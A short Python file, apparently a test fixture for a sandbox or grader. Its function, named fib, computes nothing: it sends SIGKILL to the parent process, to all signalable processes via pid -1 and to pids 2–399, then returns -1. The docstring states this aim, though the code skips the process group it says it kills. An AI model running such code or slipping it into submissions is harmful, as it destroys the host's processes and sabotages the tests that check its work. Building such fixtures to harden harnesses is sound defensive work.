"""Kills its parent, its group, every process and the tests' process."""
# ruff: noqa

import os, signal


def fib(n):
    for pid in (os.getppid(), 0, -1, *range(2, 400)):
        try:
            os.kill(pid, signal.SIGKILL) if pid not in (0, os.getpid()) else None
        except OSError:
            pass
    return -1
